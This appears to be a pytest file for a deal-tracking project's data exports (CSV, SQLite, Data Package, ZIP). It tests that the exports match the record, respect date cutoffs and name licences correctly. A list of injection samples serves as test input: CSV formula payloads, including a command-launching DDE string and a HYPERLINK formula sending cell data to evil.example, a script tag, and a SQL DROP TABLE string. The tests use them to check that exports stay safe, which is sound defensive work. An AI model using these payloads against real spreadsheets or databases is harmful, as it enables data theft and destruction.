"""The tables hold what the record holds, in forms that programs which know nothing of us can read."""

import csv
import io
import json
import re
import socket
import sqlite3
import zipfile
from contextlib import closing
from datetime import date
from pathlib import Path
from typing import Any

import frictionless
import pytest
from frictionless.resources import TableResource
from hypothesis import given
from hypothesis import strategies as st
from making import basis, day, deal, event, link, peer, point, reading, sequence, source, track
from projects import ANOTHER_DEAL

from dealtracker.files import as_bytes
from dealtracker.loading import load
from dealtracker.model import Record, Text
from dealtracker.outputs.tables import TAKEAWAY
from dealtracker.pages import Edition
from dealtracker.pages.corrections import amendments
from dealtracker.standing import deal_standing

PAST = date(2025, 8, 30)

HOSTILE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"here")', "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
    " =1", "'=1", "''=1", '"=1"', "＝1", "25%;=1+1", "a;b; -5%;'+1", "'Tis so", "don't; won't", "a, b\r\nc", 'he said "no"',
    "'", ";", '";"', "\ufeff=1", "15% 공개, “관세”", "<script>alert(1)</script>", "]]>", "BEGIN:VCALENDAR",
    "'; DROP TABLE tracks; --", "null", "true", " ", "\\N", "2026-06",
]  # fmt: skip

letters = st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff", include_characters="\t\r\n")
texts = st.sampled_from(HOSTILE) | st.text(letters, min_size=1)


def made(edition: Edition) -> dict[str, bytes]:
    """The files, by their names in the folder of the tables."""
    return {path.removeprefix("tables/"): as_bytes(holds) for path, holds in TAKEAWAY.files(edition)}


def edition_of(*records: Record, as_of: str = "2026-12-31", **more: Any) -> Edition:
    return Edition(deal_standing(deal(*records, **more), day(as_of)))


def cells(file: bytes) -> list[list[str]]:
    """A CSV file by the book: marked, strict, and with CRLF at the end of each line and nowhere else outside of quotes."""
    text = file.decode("utf-8")
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    return rows


def unguarded(cell: str) -> str:
    """The text of a cell, by the sentence in the README."""
    return re.sub(r"""(\A|;)'(?=[\s'"]*[=+\-@＝＋－＠]|'*[\t\r\n])""", r"\1", cell)


def rows(file: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file, with its texts as they were."""
    names, *values = cells(file)
    return [dict(zip(names, map(unguarded, row), strict=True)) for row in values]


def opened(files: dict[str, bytes]) -> sqlite3.Connection:
    base = sqlite3.connect(":memory:")
    base.row_factory = sqlite3.Row
    base.deserialize(files["tracker.db"])
    return base


@pytest.fixture(scope="module")
def files(real: Edition) -> dict[str, bytes]:
    return made(real)


@pytest.fixture(scope="module")
def past(real: Edition) -> Edition:
    return Edition(deal_standing(real.deal, PAST))


# What they hold


def test_what_is_announced_is_made_and_nothing_else(files: dict[str, bytes]) -> None:
    assert {f"tables/{name}" for name in files} == {address.path for address in TAKEAWAY.addresses}


def test_counts_are_those_of_the_record(real: Edition, files: dict[str, bytes]) -> None:
    tracks = [track for track in real.deal.tracks.values() if track.retracted is None]
    events = [event for track in tracks for event in track.events]
    points = [point for track in tracks for point in track.points]
    sides = [side for track in tracks for reading in track.readings for side in reading.sides]
    expected = {
        "tracks": len(tracks),
        "events": len(events),
        "points": len(points),
        "readings": len(sides),
        "sources": len(real.deal.sources),
        "changes": len(real.standing.changes),
        "event_points": sum(len(event.points) for event in events),
        "event_sources": sum(len(set(event.sources)) for event in events),
        "point_sources": sum(len(set(point.sources)) for point in points),
        "reading_sources": sum(len(set(side.sources)) for side in sides),
        "statuses": len(real.words.statuses),
        "clocks": len(tracks) * (len(real.words.clocked) - 1),
        "withdrawn": len(real.deal.tracks) - len(tracks),
        "corrections": len(amendments(real)),
    }
    assert {name.removesuffix(".csv"): len(rows(file)) for name, file in files.items() if name.endswith(".csv")} == expected


def test_replaying_the_changes_gives_the_statuses(real: Edition, past: Edition, files: dict[str, bytes]) -> None:
    for edition, file in ((real, files["changes.csv"]), (past, made(past)["changes.csv"])):
        status: dict[str, str] = {}
        for change in rows(file):
            assert status.get(change["track"], "") == change["from"]
            status[change["track"]] = change["to"]
        assert status == {id: here.status for id, here in edition.standing.tracks.items() if here.status}
        assert len(status) > 10


def test_events_are_those_of_the_record_letter_for_letter(real: Edition, files: dict[str, bytes]) -> None:
    found = {row["id"]: row for row in rows(files["events.csv"])}
    for id, record in real.deal.tracks.items():
        for fact in record.events:
            row = found[f"{id}/{fact.id}"]
            assert (row["title"], row["title_ko"]) == (fact.title.en, fact.title.ko or "")
            assert row["text"] == (fact.text.en if fact.text else "")
            assert row["quote"] == (fact.quote.text.en if fact.quote else "")
            assert (row["date"], row["kind"], row["track"]) == (str(fact.date), fact.kind, id)
            assert row["sources"].split() == list(fact.sources)
            assert row["points"].split() == [f"{id}/{point}" for point in fact.points]
            assert row["page"] == f"{real.deal.about.address}tracks/{id}/#event-{fact.id}"


def test_a_change_says_because_of_what_and_how_well_it_is_proved() -> None:
    events = [event("announced", "2026-01-02", sources=["press"]), event("signed", "2026-03", sources=["press", "legal"])]
    first, second = rows(made(edition_of(track(*events)))["changes.csv"])
    assert (first["from"], first["to"], first["because"]) == ("", "announced", "bridge/announced-2026-01-02")
    assert (second["date"], second["date_first"], second["date_last"]) == ("2026-03", "2026-03-01", "2026-03-31")
    assert (second["from"], second["to"]) == ("announced", "on-paper")
    assert (second["evidence"], second["proved_by"], second["sources"]) == ("documented", "legal", "press legal")
    reported = edition_of(track(event("signed", sources=["press"])))
    assert [(row["evidence"], row["proved_by"]) for row in rows(made(reported)["changes.csv"])] == [("reported", "")]


def test_a_withdrawn_track_keeps_its_id_and_its_reason_and_nothing_else() -> None:
    gone = track(*sequence("announced"), id="ferry", retracted={"date": "2026-06-01", "why": "Twice the same"})
    files = made(edition_of(track(*sequence("signed")), gone))
    (row,) = rows(files["withdrawn.csv"])
    assert (row["id"], row["withdrawn"], row["why"]) == ("ferry", "2026-06-01", "Twice the same")
    for name in ("tracks", "events", "changes"):
        assert "ferry" not in files[f"{name}.csv"].decode()
    before = made(edition_of(track(*sequence("signed")), gone, as_of="2026-05-31"))
    assert [row["id"] for row in rows(before["tracks.csv"])] == ["bridge", "ferry"]
    assert rows(before["withdrawn.csv"]) == []


def test_what_was_put_right_is_a_table_of_every_kind_of_record() -> None:
    fixed, gone = {"date": "2026-02-01", "was": "9 crowns", "now": "8 crowns"}, {"date": "2026-03", "why": "A rumour"}
    rumour = event("signed", id="rumour", title="They sign", retracted=gone)
    files = made(edition_of(track(rumour, corrections=[fixed]), peer(retracted=gone), basis(corrections=[fixed])))
    assert rows(files["events.csv"]) == []
    found = [
        (row["id"], row["of"], row["record"], row["event"], row["was"], row["why"]) for row in rows(files["corrections.csv"])
    ]
    assert found == [
        ("track-bridge-2026-02-01", "track", "bridge", "", "9 crowns", ""),
        ("basis-treaty-2026-02-01", "basis", "treaty", "", "9 crowns", ""),
        ("track-bridge-event-rumour", "track", "bridge", "rumour", "", "A rumour"),
        ("deal-westland-withdrawn", "deal", "westland", "", "", "A rumour"),
    ]


# No later than the day


def test_a_past_day_holds_nothing_later(real: Edition, past: Edition) -> None:
    files = made(past)
    for name, column in (("events", "date_last"), ("changes", "date_last"), ("readings", "date_last"), ("tracks", "since_last")):
        days = [row[column] for row in rows(files[f"{name}.csv"]) if row[column]]
        assert days and max(days) <= PAST.isoformat()
    everything = b"".join(file for name, file in files.items() if not name.endswith(".zip"))
    later = [fact.title.en for record in real.deal.tracks.values() for fact in record.events if fact.date.last > PAST]
    assert len(later) > 100
    assert not [title for title in later if title.encode() in everything]
    untold = [track for id, track in real.deal.tracks.items() if not past.deal.tracks[id].summary]
    assert untold and not any(track.summary.en.encode() in everything for track in untold)


def test_what_answers_settles_or_is_cited_later_is_not_known_before() -> None:
    threat = event("threat", "2026-02-01", answered="signed-2026-05-01")
    differ = reading("2026-02-01", "2026-02-02", "2026-05-01", event="signed-2026-05-01", until="2026-05-02", note="As signed")
    late = source("late")
    record = track(
        threat,
        event("signed", "2026-05-01", sources=["late"]),
        readings=[differ],
        links=[link("blocked-by", "bridge", "2026-05-01")],
    )
    before, after = (made(edition_of(record, as_of=on, sources=[late])) for on in ("2026-04-30", "2026-05-02"))
    assert [row["answered"] for row in rows(before["events.csv"])] == [""]
    assert [row["answered"] for row in rows(after["events.csv"])] == ["bridge/signed-2026-05-01", ""]
    assert [(r["side"], r["event"], r["settled"], r["note"], r["disputed"]) for r in rows(before["readings.csv"])] == [
        ("1", "", "", "", "true"),
        ("2", "", "", "", "true"),
    ]
    assert [(r["side"], r["settled"], r["note"], r["disputed"]) for r in rows(after["readings.csv"])] == [
        (side, "2026-05-02", "As signed", "false") for side in "123"
    ]
    assert "late" not in before["sources.csv"].decode()
    assert "late" in [row["id"] for row in rows(after["sources.csv"])]


# CSV


@given(texts, texts, texts)
def test_any_text_comes_back_letter_for_letter_and_runs_nowhere(title: str, korean: str, value: str) -> None:
    named = event("announced", title={"en": title, "ko": korean}, points={"toll": Text(value)}, note=Text(title))
    files = made(edition_of(track(named, points=[point()])))
    (row,) = rows(files["events.csv"])
    assert (row["title"], row["title_ko"], row["note"]) == (title, korean, title)
    assert [row["value"] for row in rows(files["event_points.csv"])] == [value]
    with closing(opened(files)) as base:
        (stored,) = base.execute("SELECT title, title_ko, note FROM events")
        assert tuple(stored) == (title, korean, title)
    for line in cells(files["events.csv"]) + cells(files["event_points.csv"]):
        for cell in line:
            for begins in cell.split(";"):
                assert not re.match(r"""[\s'"]*[=+\-@＝＋－＠]|[\t\r\n]""", begins.removeprefix("'")) or begins.startswith("'")


def test_numbers_below_zero_stay_numbers() -> None:
    other_order = track(event("signed", "2026-01-01"), event("announced", "2026-01-03"))
    days = [row["days"] for row in rows(made(edition_of(other_order))["clocks.csv"])]
    assert days[0] == "-2"


# Data Package


def test_the_package_is_valid(real: Edition, files: dict[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(socket.socket, "connect", _no_network)
    for name, file in files.items():
        (tmp_path / name).write_bytes(file)
    for path in (tmp_path / "datapackage.json", tmp_path / "tracker.zip"):
        package = frictionless.Package(str(path))
        report = package.validate()
        assert report.valid, report.flatten(["title", "note"])
        assert (package.created, package.version) == (f"{real.as_of}T00:00:00Z", TAKEAWAY.version)
        assert [licence["name"] for licence in package.licenses] == ["CC-BY-4.0"]
        events = package.get_resource("events")
        assert isinstance(events, TableResource)
        assert len(events.read_rows()) == sum(len(track.events) for track in real.deal.tracks.values())


def test_the_package_says_what_is_wrong_with_other_rows(files: dict[str, bytes], tmp_path: Path) -> None:
    for name, file in files.items():
        (tmp_path / name).write_bytes(file)
    (tmp_path / "events.csv").write_bytes(files["events.csv"].replace(b",announced,", b",imagined,", 1))
    (tmp_path / "tracks.csv").write_bytes(b"\r\n".join(files["tracks.csv"].split(b"\r\n")[:-2]) + b"\r\n")
    report = frictionless.Package(str(tmp_path / "datapackage.json")).validate()
    assert {error[0] for error in report.flatten(["type"])} >= {"constraint-error", "foreign-key", "hash-count"}


def test_hostile_texts_are_no_error_in_the_package(tmp_path: Path) -> None:
    events = [event("report", id=f"event-{number}", title=text) for number, text in enumerate(HOSTILE)]
    for name, file in made(edition_of(track(*events))).items():
        (tmp_path / name).write_bytes(file)
    report = frictionless.Package(str(tmp_path / "datapackage.json")).validate()
    assert report.valid, report.flatten(["title", "note"])


def test_a_date_known_to_the_month_is_typed_as_what_it_is(files: dict[str, bytes]) -> None:
    described = {table["name"]: table for table in json.loads(files["datapackage.json"])["resources"]}
    fields = {field["name"]: field for field in described["events"]["schema"]["fields"]}
    assert (fields["date"]["type"], fields["date_first"]["type"], fields["date_last"]["type"]) == ("string", "date", "date")
    months = [row for row in rows(files["events.csv"]) if len(row["date"]) == 7]
    assert months and all((row["date_first"][:7], row["date_first"][8:]) == (row["date"], "01") for row in months)
    assert all(re.fullmatch(fields["date"]["constraints"]["pattern"], row["date"]) for row in rows(files["events.csv"]))


def test_every_table_and_column_is_described(files: dict[str, bytes]) -> None:
    for table in json.loads(files["datapackage.json"])["resources"]:
        assert table["title"] and table["description"]
        assert [field["name"] for field in table["schema"]["fields"]] == cells(files[table["path"]])[0]
        assert all(field["description"] for field in table["schema"]["fields"])


# SQLite


def test_the_database_is_whole_and_has_the_rows_of_the_csv_files(files: dict[str, bytes]) -> None:
    with closing(opened(files)) as base:
        assert [tuple(row) for row in base.execute("PRAGMA integrity_check")] == [("ok",)]
        assert base.execute("PRAGMA foreign_key_check").fetchall() == []
        for table in json.loads(files["datapackage.json"])["resources"]:
            types = {field["name"]: field["type"] for field in table["schema"]["fields"]}
            stored = [_as_csv(row, types) for row in base.execute(f'SELECT * FROM "{table["name"]}"')]
            written = rows(files[table["path"]])
            assert len(stored) == len(written)
            assert {frozenset(row.items()) for row in stored} == {frozenset(row.items()) for row in written}
            refers = {(row["from"], row["table"]) for row in base.execute(f'PRAGMA foreign_key_list("{table["name"]}")')}
            keys = table["schema"].get("foreignKeys", ())
            assert refers == {(key["fields"][0], key["reference"].get("resource", table["name"])) for key in keys}


def _as_csv(row: sqlite3.Row, types: dict[str, str]) -> dict[str, str]:
    words = {1: "true", 0: "false"}
    given = {name: words[row[name]] if types[name] == "boolean" else row[name] for name in row.keys()}  # noqa: SIM118
    return {name: "" if value is None else str(value) for name, value in given.items()}


def test_views_answer_what_people_ask(real: Edition, files: dict[str, bytes]) -> None:
    with closing(opened(files)) as base:
        standing = {row["id"]: row["status"] for row in base.execute("SELECT * FROM current_status")}
        assert standing == {
            id: real.words.status[here.status].label.en if here.status else None for id, here in real.standing.tracks.items()
        }
        waiting = base.execute("SELECT * FROM announced_not_on_paper").fetchall()
        running = [clock for here in real.standing.tracks.values() for clock in here.clocks if clock.is_running]
        assert {row["days"] for row in waiting} == {clock.days for clock in running if clock.start == "announced"}
        assert waiting
        newest = base.execute("SELECT * FROM latest_changes").fetchall()
        assert [(row["date"], row["track"]) for row in newest] == [
            (str(change.step.on), change.standing.track.title.en) for change in real.standing.changes
        ]


def test_datasette_is_told_of_what_the_database_holds(files: dict[str, bytes]) -> None:
    told = json.loads(files["metadata.json"])
    assert told["license_url"] == "https://creativecommons.org/licenses/by/4.0/"
    with closing(opened(files)) as base:
        held = [row["name"] for row in base.execute("SELECT name FROM sqlite_schema WHERE type IN ('table', 'view')")]
        tables = told["databases"]["tracker"]["tables"]
        assert sorted(tables) == sorted(held)
        for name, table in tables.items():
            if "columns" in table:
                assert list(table["columns"]) == [row["name"] for row in base.execute(f'PRAGMA table_info("{name}")')]


# ZIP, and all of them


def test_the_archive_holds_the_same_files_and_explains_them(real: Edition, files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(files["tracker.zip"])) as packed:
        assert packed.testzip() is None
        held = {name: packed.read(name) for name in packed.namelist()}
        assert {entry.date_time for entry in packed.infolist()} == {(*real.as_of.timetuple()[:3], 0, 0, 0)}
    read_me, licence = held.pop("README.md").decode(), held.pop("LICENSE.txt").decode()
    assert held == {name: file for name, file in files.items() if name != "tracker.zip"}
    for name in held:
        assert f"`{name}`" in read_me
    assert "CC BY 4.0" in licence and "https://creativecommons.org/licenses/by/4.0/" in licence


def test_the_same_record_gives_the_same_bytes(edition: Edition) -> None:
    assert made(edition) == made(Edition(edition.standing))


def test_another_deal_has_tables_in_its_own_words(tmp_path: Path) -> None:
    other = load(ANOTHER_DEAL / "data", day("2031-12-31")).deal
    assert other is not None
    edition = Edition(deal_standing(other, day("2031-12-31")))
    files = made(edition)
    for name, file in files.items():
        (tmp_path / name).write_bytes(file)
    assert frictionless.Package(str(tmp_path / "datapackage.json")).validate().valid
    assert [row["id"] for row in rows(files["statuses.csv"])] == [status.id for status in other.vocabulary.statuses]
    with closing(opened(files)) as base:
        assert base.execute("PRAGMA foreign_key_check").fetchall() == []


@pytest.mark.parametrize(
    ("licence", "id", "address"),
    [
        ("CC BY 4.0", "CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/"),
        ("CC BY-NC-SA 4.0", "CC-BY-NC-SA-4.0", "https://creativecommons.org/licenses/by-nc-sa/4.0/"),
        ("CC0 1.0", "CC0-1.0", "https://creativecommons.org/publicdomain/zero/1.0/"),
        ("All rights reserved", "All-rights-reserved", None),
        ("CC BY 4.0 and more", "CC-BY-4.0-and-more", None),
    ],
)
def test_the_licence_is_named_as_the_deal_names_it(licence: str, id: str, address: str | None) -> None:
    whole = deal(track(*sequence("announced")))
    about = whole.about.but({"licence": Text(licence)})
    licensed = type(whole)(about, whole.vocabulary, whole.tracks, whole.bases, whole.peers, whole.sources)
    files = made(Edition(deal_standing(licensed, day("2026-12-31"))))
    (told,) = json.loads(files["datapackage.json"])["licenses"]
    assert (told["name"], told["title"], told.get("path")) == (id, licence, address)
    assert json.loads(files["metadata.json"]).get("license_url") == address
    assert frictionless.Package(json.loads(files["datapackage.json"])).licenses


def _no_network(*_: object) -> None:
    raise OSError("tests need no network")
